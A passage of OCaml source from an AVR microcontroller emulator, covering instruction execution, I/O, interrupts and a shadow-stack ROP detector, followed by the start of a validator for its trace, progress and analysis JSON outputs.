   probe one word past the programmed image; out-of-range addresses fall
   back to a raw decode, exactly as the uncached path reads erased
   flash. *)
let fetch t pc =
  if t.use_icache && pc >= 0 && pc < Array.length t.icache_words then begin
    let words = Array.unsafe_get t.icache_words pc in
    if words <> 0 then (Array.unsafe_get t.icache_insn pc, words)
    else
      let insn = fill_entry t pc in
      (insn, Array.unsafe_get t.icache_words pc)
  end
  else decode_raw t pc

(* I/O-aware data-space access: reads/writes to the I/O file trigger
   peripheral behaviour; everything else is plain memory (including the
   register file, which is how the write_mem gadget corrupts state). *)
let io_read t a =
  if a = Device.Io.udr then (if Queue.is_empty t.uart_rx then 0 else Queue.pop t.uart_rx)
  else if a = Device.Io.ucsra then
    (if Queue.is_empty t.uart_rx then 0 else 0x80)
    lor (if t.cycles >= t.tx_busy_until then 0x20 else 0)
  else if a = Device.Io.sreg then t.sreg_v
  else if a = Device.Io.spl then t.sp_v land 0xFF
  else if a = Device.Io.sph then (t.sp_v lsr 8) land 0xFF
  else Memory.data_get t.mem (io_addr t a)

let io_write t a v =
  if a = Device.Io.udr then begin
    (* Writes during the busy window are lost, as on the real part. *)
    if t.cycles >= t.tx_busy_until then begin
      Buffer.add_char t.uart_tx (Char.chr (v land 0xFF));
      t.tx_busy_until <- t.cycles + t.tx_cycles_per_byte
    end
  end
  else if a = Device.Io.wdt_feed then begin
    t.feeds <- t.feeds + 1;
    t.last_feed <- t.cycles;
    Memory.data_set t.mem (io_addr t a) v
  end
  else if a = Device.Io.tccr then begin
    Memory.data_set t.mem (io_addr t a) v;
    if v land 1 <> 0 then begin
      let period = (Memory.data_get t.mem (io_addr t Device.Io.ocr) + 1) * 64 in
      t.timer_next_fire <- t.cycles + period
    end
    else t.timer_next_fire <- max_int
  end
  else if a = Device.Io.sreg then t.sreg_v <- v land 0xFF
  else if a = Device.Io.spl then t.sp_v <- t.sp_v land 0xFF00 lor (v land 0xFF)
  else if a = Device.Io.sph then t.sp_v <- (v land 0xFF) lsl 8 lor (t.sp_v land 0xFF)
  else if a = Device.Io.eecr then begin
    (* EEPROM access, triggered by the EERE/EEPE strobe bits. *)
    let ear =
      Memory.data_get t.mem (io_addr t Device.Io.eearl)
      lor (Memory.data_get t.mem (io_addr t Device.Io.eearh) lsl 8)
    in
    if v land 0x01 <> 0 then
      (* EERE: read eeprom[EEAR] into EEDR (stalls the CPU 4 cycles). *)
      Memory.data_set t.mem (io_addr t Device.Io.eedr) (Memory.eeprom_get t.mem ear)
    else if v land 0x02 <> 0 then
      (* EEPE: program eeprom[EEAR] from EEDR. *)
      Memory.eeprom_set t.mem ear (Memory.data_get t.mem (io_addr t Device.Io.eedr));
    Memory.data_set t.mem (io_addr t a) 0 (* strobes auto-clear *)
  end
  else Memory.data_set t.mem (io_addr t a) v

let data_read t addr =
  let io0 = t.dev.Device.io_base in
  if addr >= io0 && addr < io0 + 64 then io_read t (addr - io0) else Memory.data_get t.mem addr

let data_write t addr v =
  let io0 = t.dev.Device.io_base in
  if addr >= io0 && addr < io0 + 64 then io_write t (addr - io0) v
  else Memory.data_set t.mem addr v

let push_byte t v =
  let p = sp t in
  data_write t p v;
  set_sp t (p - 1)

let pop_byte t =
  let p = sp t + 1 in
  set_sp t p;
  data_read t p

(* Return addresses: low byte pushed first, so the address sits big-endian
   in memory (MSB at the lower address) — the layout ROP payloads encode. *)
let push_pc t addr =
  push_byte t (addr land 0xFF);
  push_byte t ((addr lsr 8) land 0xFF);
  if t.dev.Device.pc_bytes = 3 then push_byte t ((addr lsr 16) land 0xFF)

let pop_pc t =
  let hi = if t.dev.Device.pc_bytes = 3 then pop_byte t else 0 in
  let mid = pop_byte t in
  let lo = pop_byte t in
  (hi lsl 16) lor (mid lsl 8) lor lo

(* Shadow-stack hooks (§IX runtime-monitoring baseline). *)
let shadow_call t addr =
  match t.shadow with
  | None -> ()
  | Some stack ->
      t.shadow <- Some (addr :: stack);
      t.cycles <- t.cycles + t.shadow_overhead

let shadow_ret t got =
  match t.shadow with
  | None -> ()
  | Some [] -> t.cycles <- t.cycles + t.shadow_overhead (* returning past main: ignore *)
  | Some (expected :: rest) ->
      t.shadow <- Some rest;
      t.cycles <- t.cycles + t.shadow_overhead;
      if expected <> got then
        set_halt t (Rop_detected { expected = expected * 2; got = got * 2 })

(* Flag helpers. *)
let flag_bit = 1

let get_flag t f = (sreg t lsr f) land 1 = flag_bit

let set_flag t f v =
  let s = sreg t in
  set_sreg t (if v then s lor (1 lsl f) else s land lnot (1 lsl f))

(* Flag batching: [set_flag] costs a memory-mapped SREG read and write
   per flag, and the ALU instructions set up to six — a dozen byte
   accesses per instruction on the hot path.  These helpers compose the
   freshly computed bits and commit them with a single read-modify-write,
   preserving the net effect of the former per-flag sequences. *)
let fbit f cond = if cond then 1 lsl f else 0

let mask_zns = (1 lsl Flag.z) lor (1 lsl Flag.n) lor (1 lsl Flag.s)
let mask_vzns = mask_zns lor (1 lsl Flag.v)
let mask_cvzns = mask_vzns lor (1 lsl Flag.c)
let mask_cvzn = mask_cvzns land lnot (1 lsl Flag.s)
let mask_hcvzns = mask_cvzns lor (1 lsl Flag.h)

let update_flags t ~mask bits = set_sreg t (sreg t land lnot mask lor bits)

(* z/n/s for a 8-bit result given the (new) V flag; S = N xor V. *)
let zns_bits r ~v =
  let n = r land 0x80 <> 0 in
  fbit Flag.z (r = 0) lor fbit Flag.n n lor fbit Flag.s (n <> v)

let flags_add t d r res =
  let res8 = res land 0xFF in
  let c = (d land r) lor (r land lnot res) lor (lnot res land d) in
  let v = (d land r land lnot res lor (lnot d land lnot r land res)) land 0x80 <> 0 in
  update_flags t ~mask:mask_hcvzns
    (fbit Flag.h (c land 0x08 <> 0)
    lor fbit Flag.c (c land 0x80 <> 0)
    lor fbit Flag.v v lor zns_bits res8 ~v)

let flags_sub ?(keep_z = false) t d r res =
  let s0 = sreg t in
  let res8 = res land 0xFF in
  let bw = (lnot d land r) lor (r land res) lor (res land lnot d) in
  let v = (d land lnot r land lnot res lor (lnot d land r land res)) land 0x80 <> 0 in
  let n = res8 land 0x80 <> 0 in
  let z = res8 = 0 && (not keep_z || (s0 lsr Flag.z) land 1 = 1) in
  set_sreg t
    (s0 land lnot mask_hcvzns
    lor fbit Flag.h (bw land 0x08 <> 0)
    lor fbit Flag.c (bw land 0x80 <> 0)
    lor fbit Flag.v v lor fbit Flag.z z lor fbit Flag.n n
    lor fbit Flag.s (n <> v))

let flags_logic t res = update_flags t ~mask:mask_vzns (zns_bits res ~v:false)

let word_reg t r = reg t r lor (reg t (r + 1) lsl 8)

let set_word_reg t r v =
  set_reg t r (v land 0xFF);
  set_reg t (r + 1) ((v lsr 8) land 0xFF)

let x_reg = 26
let y_reg = 28
let z_reg = 30

let ptr_access t p ~write =
  (* Returns the effective address for the access, applying inc/dec. *)
  ignore write;
  let base, pre_dec, post_inc =
    match p with
    | X -> (x_reg, false, false)
    | X_inc -> (x_reg, false, true)
    | X_dec -> (x_reg, true, false)
    | Y_inc -> (y_reg, false, true)
    | Y_dec -> (y_reg, true, false)
    | Z_inc -> (z_reg, false, true)
    | Z_dec -> (z_reg, true, false)
  in
  let v = word_reg t base in
  let addr = if pre_dec then (v - 1) land 0xFFFF else v in
  if pre_dec then set_word_reg t base addr
  else if post_inc then set_word_reg t base ((v + 1) land 0xFFFF);
  addr

let skip_next t =
  (* Used by cpse/sbic/sbis/sbrc/sbrs: skip over the next instruction
     (1 or 2 words), through the predecode cache — the second decode of
     the skipped word was pure waste, and the skip distance must agree
     with what would execute at that address. *)
  let _, words = fetch t t.pc in
  t.pc <- t.pc + words;
  t.cycles <- t.cycles + words

let branch t cond k =
  if cond then begin
    t.pc <- t.pc + k;
    t.cycles <- t.cycles + 1
  end

(* Take the pending timer-compare interrupt, mirroring AVR hardware:
   finish the current instruction, push the PC, clear SREG.I, vector. *)
let take_timer_interrupt t =
  (* Dispatch latency: cycles between the scheduled compare match and the
     vector actually being taken (the interrupt-latency telemetry).  The
     caller guarantees [cycles >= timer_next_fire]. *)
  let latency = t.cycles - t.timer_next_fire in
  push_pc t t.pc;
  shadow_call t t.pc;
  set_flag t Flag.i false;
  t.pc <- Device.Vector.byte_addr Device.Vector.timer_compare / 2;
  let period = (Memory.data_get t.mem (io_addr t Device.Io.ocr) + 1) * 64 in
  t.timer_next_fire <- t.cycles + period;
  t.interrupts_taken <- t.interrupts_taken + 1;
  t.cycles <- t.cycles + 5;
  match t.tap_irq with None -> () | Some f -> f latency

(* Execute exactly one instruction (or take a pending interrupt).
   Precondition: not halted — the halt check lives in the callers so the
   batched [run] loops pay for it once per iteration condition rather
   than re-matching inside.  The timer comparison is ordered before the
   SREG read so that with the timer disarmed ([max_int], the common
   case) the memory-mapped I flag is never touched on the hot path. *)
let exec_one t =
  if t.cycles >= t.timer_next_fire && get_flag t Flag.i then take_timer_interrupt t
  else if t.pc < 0 || t.pc * 2 >= t.program_bytes then set_halt t (Wild_pc (t.pc * 2))
  else begin
        let pc0 = t.pc in
        (* Inline fetch, split so the cache-hit path allocates nothing
           (building the (insn, words) pair costs a heap block per
           instruction without flambda).  No bounds check: the wild-PC
           guard above bounds pc0 by program_bytes, and a sync'd cache
           spans exactly (program_bytes + 1) / 2 entries. *)
        let insn =
          if t.use_icache then begin
            let words = Array.unsafe_get t.icache_words pc0 in
            if words <> 0 then begin
              t.pc <- pc0 + words;
              Array.unsafe_get t.icache_insn pc0
            end
            else begin
              let insn = fill_entry t pc0 in
              t.pc <- pc0 + Array.unsafe_get t.icache_words pc0;
              insn
            end
          end
          else begin
            let insn, words = decode_raw t pc0 in
            t.pc <- pc0 + words;
            insn
          end
        in
        if t.tap_on then t.tap_insn pc0 insn;
        t.retired <- t.retired + 1;
        t.cyc <- 1;
        (match insn with
        | Nop -> ()
        | Data w ->
            set_halt t (Illegal_instruction { byte_addr = pc0 * 2; word = w });
            t.pc <- pc0
        | Movw (d, r) ->
            set_reg t d (reg t r);
            set_reg t (d + 1) (reg t (r + 1))
        | Ldi (d, k) -> set_reg t d k
        | Mov (d, r) -> set_reg t d (reg t r)
        | Add (d, r) ->
            let a = reg t d and b = reg t r in
            let res = a + b in
            flags_add t a b res;
            set_reg t d res
        | Adc (d, r) ->
            let a = reg t d and b = reg t r in
            let res = a + b + if get_flag t Flag.c then 1 else 0 in
            flags_add t a b res;
            set_reg t d res
        | Sub (d, r) ->
            let a = reg t d and b = reg t r in
            let res = a - b in
            flags_sub t a b res;
            set_reg t d res
        | Sbc (d, r) ->
            let a = reg t d and b = reg t r in
            let res = a - b - if get_flag t Flag.c then 1 else 0 in
            flags_sub ~keep_z:true t a b res;
            set_reg t d res
        | And (d, r) ->
            let res = reg t d land reg t r in
            flags_logic t res;
            set_reg t d res
        | Or (d, r) ->
            let res = reg t d lor reg t r in
            flags_logic t res;
            set_reg t d res
        | Eor (d, r) ->
            let res = reg t d lxor reg t r in
            flags_logic t res;
            set_reg t d res
        | Cp (d, r) -> flags_sub t (reg t d) (reg t r) (reg t d - reg t r)
        | Cpc (d, r) ->
            let c = if get_flag t Flag.c then 1 else 0 in
            flags_sub ~keep_z:true t (reg t d) (reg t r) (reg t d - reg t r - c)
        | Cpse (d, r) -> if reg t d = reg t r then skip_next t
        | Mul (d, r) ->
            let p = reg t d * reg t r in
            set_reg t 0 (p land 0xFF);
            set_reg t 1 ((p lsr 8) land 0xFF);
            update_flags t
              ~mask:((1 lsl Flag.c) lor (1 lsl Flag.z))
              (fbit Flag.c (p land 0x8000 <> 0) lor fbit Flag.z (p land 0xFFFF = 0));
            t.cyc <- 2
        | Subi (d, k) ->
            let a = reg t d in
            let res = a - k in
            flags_sub t a k res;
            set_reg t d res
        | Sbci (d, k) ->
            let a = reg t d in
            let res = a - k - if get_flag t Flag.c then 1 else 0 in
            flags_sub ~keep_z:true t a k res;
            set_reg t d res
        | Andi (d, k) ->
            let res = reg t d land k in
            flags_logic t res;
            set_reg t d res
        | Ori (d, k) ->
            let res = reg t d lor k in
            flags_logic t res;
            set_reg t d res
        | Cpi (d, k) -> flags_sub t (reg t d) k (reg t d - k)
        | Com d ->
            let res = 0xFF - reg t d in
            update_flags t ~mask:mask_cvzns ((1 lsl Flag.c) lor zns_bits res ~v:false);
            set_reg t d res
        | Neg d ->
            let a = reg t d in
            let res = (0x100 - a) land 0xFF in
            let v = res = 0x80 in
            update_flags t ~mask:mask_hcvzns
              (fbit Flag.c (res <> 0) lor fbit Flag.v v
              lor fbit Flag.h ((res lor a) land 0x08 <> 0)
              lor zns_bits res ~v);
            set_reg t d res
        | Inc d ->
            let res = (reg t d + 1) land 0xFF in
            let v = res = 0x80 in
            update_flags t ~mask:mask_vzns (fbit Flag.v v lor zns_bits res ~v);
            set_reg t d res
        | Dec d ->
            let res = (reg t d - 1) land 0xFF in
            let v = res = 0x7F in
            update_flags t ~mask:mask_vzns (fbit Flag.v v lor zns_bits res ~v);
            set_reg t d res
        | Lsr d ->
            let a = reg t d in
            let res = a lsr 1 in
            (* n = 0, v = c, s = n xor v = v. *)
            let c = a land 1 <> 0 in
            update_flags t ~mask:mask_cvzns
              (fbit Flag.c c lor fbit Flag.z (res = 0) lor fbit Flag.v c lor fbit Flag.s c);
            set_reg t d res
        | Ror d ->
            let a = reg t d in
            let res = (a lsr 1) lor (if get_flag t Flag.c then 0x80 else 0) in
            let c = a land 1 <> 0 in
            let n = res land 0x80 <> 0 in
            let v = n <> c in
            update_flags t ~mask:mask_cvzns
              (fbit Flag.c c lor fbit Flag.z (res = 0) lor fbit Flag.n n lor fbit Flag.v v
              lor fbit Flag.s (n <> v));
            set_reg t d res
        | Asr d ->
            let a = reg t d in
            let res = (a lsr 1) lor (a land 0x80) in
            let s0 = sreg t in
            let c = a land 1 <> 0 in
            let n = res land 0x80 <> 0 in
            (* Net effect of the former sequence: S pairs N with the
               pre-update V, then V becomes n xor c. *)
            let v_old = (s0 lsr Flag.v) land 1 = 1 in
            set_sreg t
              (s0 land lnot mask_cvzns
              lor fbit Flag.c c lor fbit Flag.z (res = 0) lor fbit Flag.n n
              lor fbit Flag.v (n <> c) lor fbit Flag.s (n <> v_old));
            set_reg t d res
        | Swap d ->
            let a = reg t d in
            set_reg t d (((a lsl 4) lor (a lsr 4)) land 0xFF)
        | Push r ->
            push_byte t (reg t r);
            t.cyc <- 2
        | Pop r ->
            set_reg t r (pop_byte t);
            t.cyc <- 2
        | Ret ->
            t.pc <- pop_pc t;
            shadow_ret t t.pc;
            t.cyc <- (if t.dev.Device.pc_bytes = 3 then 5 else 4)
        | Reti ->
            t.pc <- pop_pc t;
            shadow_ret t t.pc;
            set_flag t Flag.i true;
            t.cyc <- (if t.dev.Device.pc_bytes = 3 then 5 else 4)
        | Icall ->
            push_pc t t.pc;
            shadow_call t t.pc;
            t.pc <- word_reg t z_reg;
            t.cyc <- (if t.dev.Device.pc_bytes = 3 then 4 else 3)
        | Ijmp ->
            t.pc <- word_reg t z_reg;
            t.cyc <- 2
        | Call a ->
            push_pc t t.pc;
            shadow_call t t.pc;
            t.pc <- a;
            t.cyc <- (if t.dev.Device.pc_bytes = 3 then 5 else 4)
        | Jmp a ->
            t.pc <- a;
            t.cyc <- 3
        | Rcall k ->
            push_pc t t.pc;
            shadow_call t t.pc;
            t.pc <- t.pc + k;
            t.cyc <- (if t.dev.Device.pc_bytes = 3 then 4 else 3)
        | Rjmp k ->
            t.pc <- t.pc + k;
            t.cyc <- 2
        | Brbs (b, k) -> branch t (get_flag t b) k
        | Brbc (b, k) -> branch t (not (get_flag t b)) k
        | In (d, a) -> set_reg t d (io_read t a)
        | Out (a, r) -> io_write t a (reg t r)
        | Lds (d, a) ->
            set_reg t d (data_read t a);
            t.cyc <- 2
        | Sts (a, r) ->
            data_write t a (reg t r);
            t.cyc <- 2
        | Ldd (d, b, q) ->
            let base = if b = Y then y_reg else z_reg in
            set_reg t d (data_read t (word_reg t base + q));
            t.cyc <- 2
        | Std (b, q, r) ->
            let base = if b = Y then y_reg else z_reg in
            data_write t (word_reg t base + q) (reg t r);
            t.cyc <- 2
        | Ld (d, p) ->
            set_reg t d (data_read t (ptr_access t p ~write:false));
            t.cyc <- 2
        | St (p, r) ->
            data_write t (ptr_access t p ~write:true) (reg t r);
            t.cyc <- 2
        | Adiw (d, k) ->
            let v = word_reg t d in
            let res = (v + k) land 0xFFFF in
            update_flags t ~mask:mask_cvzn
              (fbit Flag.c (v + k > 0xFFFF)
              lor fbit Flag.z (res = 0)
              lor fbit Flag.n (res land 0x8000 <> 0)
              lor fbit Flag.v (res land 0x8000 <> 0 && v land 0x8000 = 0));
            set_word_reg t d res;
            t.cyc <- 2
        | Sbiw (d, k) ->
            let v = word_reg t d in
            let res = (v - k) land 0xFFFF in
            update_flags t ~mask:mask_cvzn
              (fbit Flag.c (v < k)
              lor fbit Flag.z (res = 0)
              lor fbit Flag.n (res land 0x8000 <> 0)
              lor fbit Flag.v (res land 0x8000 = 0 && v land 0x8000 <> 0));
            set_word_reg t d res;
            t.cyc <- 2
        | Lpm0 ->
            set_reg t 0 (Memory.flash_byte t.mem (word_reg t z_reg));
            t.cyc <- 3
        | Lpm (d, inc) ->
            let z = word_reg t z_reg in
            set_reg t d (Memory.flash_byte t.mem z);
            if inc then set_word_reg t z_reg ((z + 1) land 0xFFFF);
            t.cyc <- 3
        | Elpm0 ->
            let rampz = Memory.data_get t.mem (io_addr t 0x3B) in
            set_reg t 0 (Memory.flash_byte t.mem ((rampz lsl 16) lor word_reg t z_reg));
            t.cyc <- 3
        | Elpm (d, inc) ->
            let rampz = Memory.data_get t.mem (io_addr t 0x3B) in
            let z = word_reg t z_reg in
            set_reg t d (Memory.flash_byte t.mem ((rampz lsl 16) lor z));
            if inc then begin
              (* 24-bit post-increment carries into RAMPZ. *)
              let full = ((rampz lsl 16) lor z) + 1 in
              set_word_reg t z_reg (full land 0xFFFF);
              Memory.data_set t.mem (io_addr t 0x3B) ((full lsr 16) land 0xFF)
            end;
            t.cyc <- 3
        | Sbi (a, b) ->
            io_write t a (io_read t a lor (1 lsl b));
            t.cyc <- 2
        | Cbi (a, b) ->
            io_write t a (io_read t a land lnot (1 lsl b));
            t.cyc <- 2
        | Sbic (a, b) -> if io_read t a land (1 lsl b) = 0 then skip_next t
        | Sbis (a, b) -> if io_read t a land (1 lsl b) <> 0 then skip_next t
        | Bld (d, b) ->
            let v = reg t d in
            set_reg t d (if get_flag t Flag.t then v lor (1 lsl b) else v land lnot (1 lsl b))
        | Bst (d, b) -> set_flag t Flag.t (reg t d land (1 lsl b) <> 0)
        | Sbrc (r, b) -> if reg t r land (1 lsl b) = 0 then skip_next t
        | Sbrs (r, b) -> if reg t r land (1 lsl b) <> 0 then skip_next t
        | Bset b -> set_flag t b true
        | Bclr b -> set_flag t b false
        | Wdr -> ()
        | Sleep -> set_halt t Sleep_mode
        | Break -> set_halt t Break_hit);
        t.cycles <- t.cycles + t.cyc
      end

let step t =
  match t.halt with
  | Some _ -> ()
  | None ->
      sync_icache t;
      exec_one t

(* Batched execution: the halt state is threaded through the loop
   condition once per instruction instead of being re-matched both by a
   driver and by [step]; all per-instruction work happens in
   [exec_one]'s tight path (cached fetch, no closure allocation). *)
let run t ~max_cycles =
  sync_icache t;
  let stop = t.cycles + max_cycles in
  let rec go () =
    match t.halt with
    | Some h -> `Halted h
    | None -> if t.cycles >= stop then `Budget_exhausted else (exec_one t; go ())
  in
  go ()

let run_until_halt t ~max_cycles =
  sync_icache t;
  let stop = t.cycles + max_cycles in
  let rec go () =
    match t.halt with
    | Some h -> Some h
    | None -> if t.cycles >= stop then None else (exec_one t; go ())
  in
  go ()

let run_until t ~max_cycles pred =
  sync_icache t;
  let stop = t.cycles + max_cycles in
  let rec go () =
    match t.halt with
    | Some h -> `Halted h
    | None ->
        if pred t then `Pred
        else if t.cycles >= stop then `Budget_exhausted
        else (exec_one t; go ())
  in
  go ()

let enable_shadow_stack t ~overhead_cycles =
  t.shadow <- Some [];
  t.shadow_overhead <- overhead_cycles

let disable_shadow_stack t =
  t.shadow <- None;
  t.shadow_overhead <- 0

let shadow_depth t = match t.shadow with Some l -> List.length l | None -> 0
let interrupts_taken t = t.interrupts_taken

let set_uart_tx_pacing t ~cycles_per_byte =
  t.tx_cycles_per_byte <- max 0 cycles_per_byte

let uart_send t s = String.iter (fun c -> Queue.push (Char.code c) t.uart_rx) s
let uart_rx_pending t = Queue.length t.uart_rx

let uart_take_tx t =
  let s = Buffer.contents t.uart_tx in
  Buffer.clear t.uart_tx;
  s

let watchdog_feeds t = t.feeds
let last_feed_cycles t = t.last_feed
(* Host-side inspection: side-effect free, but SREG and SP live in
   fields rather than the byte array, so those addresses are routed. *)
let io_peek t a =
  if a = Device.Io.sreg then t.sreg_v
  else if a = Device.Io.spl then t.sp_v land 0xFF
  else if a = Device.Io.sph then (t.sp_v lsr 8) land 0xFF
  else Memory.data_get t.mem (io_addr t a)

let io_poke t a v =
  if a = Device.Io.sreg then t.sreg_v <- v land 0xFF
  else if a = Device.Io.spl then t.sp_v <- t.sp_v land 0xFF00 lor (v land 0xFF)
  else if a = Device.Io.sph then t.sp_v <- (v land 0xFF) lsl 8 lor (t.sp_v land 0xFF)
  else Memory.data_set t.mem (io_addr t a) v

let program_size t = t.program_bytes
let eeprom_peek t a = Memory.eeprom_get t.mem a
let eeprom_poke t a v = Memory.eeprom_set t.mem a v

let is_sp_or_sreg t a =
  let r = a - t.dev.Device.io_base in
  r = Device.Io.sreg || r = Device.Io.spl || r = Device.Io.sph

let data_peek t a =
  if is_sp_or_sreg t a then io_peek t (a - t.dev.Device.io_base) else Memory.data_get t.mem a

let data_poke t a v =
  if is_sp_or_sreg t a then io_poke t (a - t.dev.Device.io_base) v else Memory.data_set t.mem a v
let stack_slice t ~pos ~len = Memory.data_slice t.mem ~pos ~len
