(* trace_check — validate and normalize observability artifacts.

   Modes:
     trace_check FILE             validate FILE against the Chrome
                                  trace_event schema subset Span emits
     trace_check --strip FILE     validate, then re-emit the document
                                  (compact, to stdout) with every
                                  host-process ts/dur/cpu field zeroed —
                                  the jobs-invariant form bin/dune
                                  byte-diffs across --jobs values
     trace_check --progress FILE  validate a Progress JSONL stream:
                                  every line parses, seq increases by 1,
                                  done is monotonic and never exceeds
                                  total, and the stream ends with a
                                  reason:"final" line at done = total
     trace_check --analyze FILE   validate a `mavr analyze --json`
                                  document against schema version 2:
                                  required cfg/gadgets/census sections
                                  plus well-formed optional stack /
                                  taint / translation_validation /
                                  stack_verify sections
     trace_check --checkpoint FILE
                                  validate a campaign checkpoint
                                  snapshot: header line (version,
                                  spec_hash, seed, tasks) then task/skip
                                  entries with unique in-range indices;
                                  reports the completed frontier
     trace_check --results FILE   validate a --results JSONL stream:
                                  checkpoint structure plus full
                                  coverage — every task index appears
                                  exactly once (as a result or a skip)
     trace_check --dispatch FILE  validate a `mavr dispatch --progress`
                                  stream: the --progress contract plus a
                                  dispatch detail object on every line
                                  (constant shard/worker counts,
                                  monotone shards_done / workers_dead /
                                  redispatches), ending with every shard
                                  done
     trace_check --serve FILE     validate a serve-session transcript:
                                  progress heartbeat lines followed by
                                  exactly one terminal kind:result or
                                  kind:error line
     trace_check --serve-result FILE
                                  extract the terminal result document
                                  from a serve transcript and print it
                                  (indent 2) — byte-diffable against
                                  `mavr campaign --json`

   Exit codes: 0 valid, 1 invalid, 2 usage. *)

module J = Mavr_telemetry.Json

let fail fmt = Printf.ksprintf (fun s -> prerr_endline ("trace_check: " ^ s); exit 1) fmt

let read_file path =
  try
    let ic = open_in_bin path in
    let n = in_channel_length ic in
    let s = really_input_string ic n in
    close_in ic;
    s
  with Sys_error e -> fail "%s" e

let mem name j = J.member name j
let str name j = Option.bind (mem name j) J.to_str
let int name j = Option.bind (mem name j) J.to_int
let num name j = Option.bind (mem name j) J.to_float

(* ---- trace_event validation ----------------------------------------- *)

let meta_names = [ "process_name"; "process_sort_index"; "thread_name"; "thread_sort_index" ]

let validate_event i ev =
  let ctx = Printf.sprintf "traceEvents[%d]" i in
  (match ev with J.Obj _ -> () | _ -> fail "%s: not an object" ctx);
  let name = match str "name" ev with Some n -> n | None -> fail "%s: missing name" ctx in
  (match int "pid" ev with Some _ -> () | None -> fail "%s (%s): missing pid" ctx name);
  (match int "tid" ev with Some _ -> () | None -> fail "%s (%s): missing tid" ctx name);
  match str "ph" ev with
  | Some "M" ->
      if not (List.mem name meta_names) then fail "%s: unknown metadata event %S" ctx name;
      (match mem "args" ev with
      | Some (J.Obj _) -> ()
      | _ -> fail "%s (%s): metadata without args object" ctx name)
  | Some "X" ->
      (match num "ts" ev with Some _ -> () | None -> fail "%s (%s): complete event without numeric ts" ctx name);
      (match num "dur" ev with Some _ -> () | None -> fail "%s (%s): complete event without numeric dur" ctx name)
  | Some "i" ->
      (match num "ts" ev with Some _ -> () | None -> fail "%s (%s): instant without numeric ts" ctx name);
      (match str "s" ev with Some _ -> () | None -> fail "%s (%s): instant without scope" ctx name)
  | Some ph -> fail "%s (%s): unsupported phase %S" ctx name ph
  | None -> fail "%s (%s): missing ph" ctx name

(* pid → process name, from process_name metadata. *)
let process_names events =
  List.filter_map
    (fun ev ->
      match (str "ph" ev, str "name" ev) with
      | Some "M", Some "process_name" -> (
          match (int "pid" ev, Option.bind (mem "args" ev) (str "name")) with
          | Some pid, Some pname -> Some (pid, pname)
          | _ -> None)
      | _ -> None)
    events

let validate_trace doc =
  let events =
    match mem "traceEvents" doc with
    | Some (J.List evs) -> evs
    | Some _ -> fail "traceEvents is not a list"
    | None -> fail "missing traceEvents"
  in
  if events = [] then fail "empty traceEvents";
  List.iteri validate_event events;
  let procs = process_names events in
  if procs = [] then fail "no process_name metadata";
  List.iter
    (fun (pid, pname) ->
      if pname <> "host" && pname <> "cycles" then
        fail "pid %d has unexpected process name %S" pid pname)
    procs;
  (* Thread names must be unique within a process — Perfetto merges rows
     otherwise, and duplicate lanes would hide a Span.lane collision. *)
  let seen = Hashtbl.create 64 in
  List.iter
    (fun ev ->
      match (str "ph" ev, str "name" ev) with
      | Some "M", Some "thread_name" -> (
          match (int "pid" ev, int "tid" ev, Option.bind (mem "args" ev) (str "name")) with
          | Some pid, Some _, Some tname ->
              if Hashtbl.mem seen (pid, tname) then
                fail "duplicate lane %S in pid %d" tname pid;
              Hashtbl.add seen (pid, tname) ()
          | _ -> ())
      | _ -> ())
    events;
  events

(* ---- timing strip ---------------------------------------------------- *)

let strip_trace doc events =
  let host_pids =
    List.filter_map (fun (pid, n) -> if n = "host" then Some pid else None) (process_names events)
  in
  let is_host ev = match int "pid" ev with Some p -> List.mem p host_pids | None -> false in
  let zero_field k kvs =
    List.map (fun (key, v) -> if key = k then (key, J.Int 0) else (key, v)) kvs
  in
  let strip_ev ev =
    match ev with
    | J.Obj kvs when is_host ev && str "ph" ev <> Some "M" ->
        let kvs = zero_field "ts" (zero_field "dur" kvs) in
        let kvs =
          List.map
            (function
              | "args", J.Obj akvs -> ("args", J.Obj (zero_field "cpu_dur_us" akvs))
              | kv -> kv)
            kvs
        in
        J.Obj kvs
    | ev -> ev
  in
  match doc with
  | J.Obj kvs ->
      J.Obj
        (List.map
           (function
             | "traceEvents", J.List evs -> ("traceEvents", J.List (List.map strip_ev evs))
             | kv -> kv)
           kvs)
  | _ -> fail "trace document is not an object"

(* ---- progress stream validation -------------------------------------- *)

let jsonl_lines path =
  String.split_on_char '\n' (read_file path) |> List.filter (fun l -> String.trim l <> "")

(* Core of --progress and the heartbeat prefix of --serve: returns
   (lines, final done, final total, last reason). *)
let check_progress_lines lines =
  let last_seq = ref 0 and last_done = ref 0 and last_total = ref 0 in
  let last_reason = ref "" in
  List.iteri
    (fun i line ->
      let ctx = Printf.sprintf "line %d" (i + 1) in
      let j = match J.of_string line with Ok j -> j | Error e -> fail "%s: %s" ctx e in
      let seq = match int "seq" j with Some s -> s | None -> fail "%s: missing seq" ctx in
      if seq <> !last_seq + 1 then
        fail "%s: seq %d after %d (dropped or reordered lines)" ctx seq !last_seq;
      last_seq := seq;
      let d = match int "done" j with Some d -> d | None -> fail "%s: missing done" ctx in
      let total = match int "total" j with Some t -> t | None -> fail "%s: missing total" ctx in
      if d < !last_done then fail "%s: done went backwards (%d after %d)" ctx d !last_done;
      if d > total then fail "%s: done %d exceeds total %d" ctx d total;
      last_done := d;
      last_total := total;
      match str "reason" j with
      | Some r -> last_reason := r
      | None -> fail "%s: missing reason" ctx)
    lines;
  (List.length lines, !last_done, !last_total, !last_reason)

let validate_progress path =
  let lines = jsonl_lines path in
  if lines = [] then fail "empty progress stream";
  let n, d, total, reason = check_progress_lines lines in
  (* A stream that ends without a final line means the terminal heartbeat
     was dropped — the bug the Progress.task_done frontier path exists to
     prevent. *)
  if reason <> "final" then fail "stream ends with reason %S, expected \"final\"" reason;
  if d <> total then fail "final line reports %d/%d tasks" d total;
  Printf.printf "progress ok: %d lines, %d/%d tasks\n" n d total

(* ---- dispatch session validation -------------------------------------- *)

(* A dispatch progress stream is a progress stream (gap-free merged seq,
   terminal final line) whose every line also carries the dispatcher's
   own detail object — the invariants CI leans on after killing a worker
   mid-run: pool and shard counts never change, completion and death
   counts never go backwards, and the run only ends with every shard
   done. *)
let validate_dispatch path =
  let lines = jsonl_lines path in
  if lines = [] then fail "empty dispatch progress stream";
  let n, d, total, reason = check_progress_lines lines in
  if reason <> "final" then fail "stream ends with reason %S, expected \"final\"" reason;
  if d <> total then fail "final line reports %d/%d tasks" d total;
  let shards0 = ref (-1) and workers0 = ref (-1) in
  let last_sd = ref 0 and last_dead = ref 0 and last_re = ref 0 in
  List.iteri
    (fun i line ->
      let ctx = Printf.sprintf "line %d" (i + 1) in
      let j = match J.of_string line with Ok j -> j | Error e -> fail "%s: %s" ctx e in
